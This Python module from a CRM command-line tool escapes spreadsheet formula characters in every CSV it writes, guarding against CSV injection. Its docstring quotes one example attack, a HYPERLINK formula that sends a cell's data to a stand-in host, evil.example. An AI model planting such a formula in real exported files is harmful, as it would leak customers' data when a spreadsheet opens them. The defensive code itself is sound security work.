"""The one policy for every CSV crmcli writes: exports, ``--format csv`` listings, rejects files.

A spreadsheet runs a cell that starts with ``=``, ``+``, ``-`` or ``@`` (and, in some, a tab,
CR or NUL) as a formula: ``=HYPERLINK("https://evil.example/?"&A2, "click")`` in a name
imported from someone else's file would send a customer's data away when opened (OWASP "CSV
injection"). Such a cell gets a leading ``'``, which every spreadsheet shows as text.

Phone numbers in international form (``+44 20 7946 0000``) start with ``+`` and are
neutralised too, on purpose: unprefixed, a spreadsheet evaluates ``+1-555-0100`` as
arithmetic (-554) and ``+44 20 7946 0000`` as an error, so the number would be lost either
way. ``crm import`` removes the ``'`` again when it reads crmcli's own CSV or a rejects file;
``--raw`` (exports) and ``--format tsv``/``json`` (listings) give the values untouched to
scripts. See docs/security.md.
"""

from __future__ import annotations

import csv
import gc
from collections.abc import Iterable, Sequence
from typing import IO, Any

#: first characters a spreadsheet may run as a formula; the full-width forms too (some
#: spreadsheets in East Asian locales treat them as the ASCII ones)
FORMULA_START = frozenset("=+-@\t\r\0\uff1d\uff0b\uff0d\uff20")


def neutralise(value: str) -> str:
    """``=1+1`` -> ``'=1+1``: a spreadsheet shows it as text instead of running it."""
    return "'" + value if value[:1] in FORMULA_START else value


def unneutralise(cell: str) -> str:
    """``'=1+1`` -> ``=1+1``: undo :func:`neutralise` (on reading crmcli's own CSV back)."""
    return cell[1:] if cell[:1] == "'" and cell[1:2] in FORMULA_START else cell


def write_csv(
    rows: Iterable[Sequence[Any]],
    columns: Sequence[str],
    out: IO[str],
    *,
    excel: bool = False,
    raw: bool = False,
) -> int:
    """Write a header and ``rows``; returns the row count.

    ``excel``: a UTF-8 BOM and CRLF line ends (what Excel needs to read UTF-8). Unless ``raw``,
    every cell (the header's too) goes through :func:`neutralise`.
    """
    if excel:
        out.write("\ufeff")
    writer = csv.writer(out, lineterminator="\r\n" if excel else "\n")
    write = writer.writerow
    write(columns if raw else [neutralise(str(c)) for c in columns])
    count = 0
    start = FORMULA_START
    # Rows are many small, acyclic objects: the cyclic collector would only slow this down.
    collecting = gc.isenabled()
    gc.disable()
    try:
        for row in rows:
            if raw:
                write(row)  # the csv module writes None as ""
            else:
                # the first-character test here only spares a call for the cells that need none
                write([neutralise(c) if c.__class__ is str and c[:1] in start else c for c in row])
            count += 1
    finally:
        if collecting:
            gc.enable()
    return count
